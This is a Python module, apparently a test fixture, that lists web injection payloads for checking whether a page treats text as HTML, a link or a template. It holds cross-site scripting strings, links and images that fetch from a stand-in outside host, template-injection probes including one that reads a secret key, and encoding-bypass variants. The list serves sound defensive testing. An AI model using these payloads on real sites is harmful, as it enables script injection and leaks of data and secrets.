"""Texts that would become something else in a page that takes text for HTML, for an address, or for a template.

``HOST`` is asked for where one of them works; ``sijiOwned`` is called where one runs.
"""

from __future__ import annotations

HOST = "outside.example"
RUN = "sijiOwned(1)"
AWAY = f"//{HOST}/a"

SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT>",
    f"<script src=https:{AWAY}></script>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<script>alert`1`;{RUN}</script>",
    f"<noscript><p title='</noscript><script>{RUN}</script>'>",
    f"<template><script>{RUN}</script></template>",
)
HANDLERS = (
    f"<img src=x onerror={RUN}>",
    f"<img src=x:x onerror=alert(1);{RUN}>",
    f"<IMG SRC=/ ONERROR={RUN}>",
    f"<img/src='x'/onerror={RUN}>",
    f"<img src=x onerror\x0b={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'>",
    f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<p onmouseover={RUN} style='position:fixed;inset:0'>x</p>",
    f'" onmouseover="{RUN}" x="',
    f"' autofocus onfocus='{RUN}",
)
ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href='java&#x0A;script:{RUN}'>x</a>",
    f"<a href=data:text/html,<script>{RUN}</script>>x</a>",
    f"data:text/html;base64,PHNjcmlwdD5{'c2lqaU93bmVkKDEp'}PC9zY3JpcHQ+",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=https:{AWAY}></iframe>",
    f"<object data=https:{AWAY}></object>",
    f"<embed src=https:{AWAY}>",
    f"<form action=https:{AWAY}><button>x</button></form>",
    f"<base href=https:{AWAY}>",
    f"<meta http-equiv=refresh content='0;url=https:{AWAY}'>",
)
PICTURES = (
    f"<img src=https:{AWAY}>",
    f"<link rel=stylesheet href=https:{AWAY}>",
    f"<style>@import 'https:{AWAY}'</style>",
    f"<p style='background:url(https:{AWAY})'>x</p>",
    f"![x](https:{AWAY})",
    f"![x](https:{AWAY}?q=成绩 'x')",
    f"[点这里](https:{AWAY})",
    f"[x](javascript:{RUN})",
    f"<https:{AWAY}>",
    f"https:{AWAY}",
    f"[x]: https:{AWAY}\n[x]",
    f"<picture><source srcset=https:{AWAY}><img></picture>",
)
TEMPLATES = (
    "{{constructor.constructor('sijiOwned(1)')()}}",
    "${sijiOwned(1)}",
    "#{sijiOwned(1)}",
    "<%= sijiOwned(1) %>",
    "{% debug %}{{ settings.SECRET_KEY }}",
    "{{7*7}}",
    "%(secret)s %s {0} {name}",
    '{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=sijiOwned(1)>"}}}',
    "__proto__",
    "<rich>{name}</rich><b>x</b>",
)
UNICODE = (
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"\u202e<script>{RUN}</script>\u202c",
    f"<scr\u200bipt>{RUN}</scr\u200bipt>",
    f"<\u0131mg src=x onerror={RUN}>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    "\u2028\u2029<svg onload=sijiOwned(1)>",
)
PAYLOADS = (*SCRIPTS, *HANDLERS, *ADDRESSES, *PICTURES, *TEMPLATES, *UNICODE)
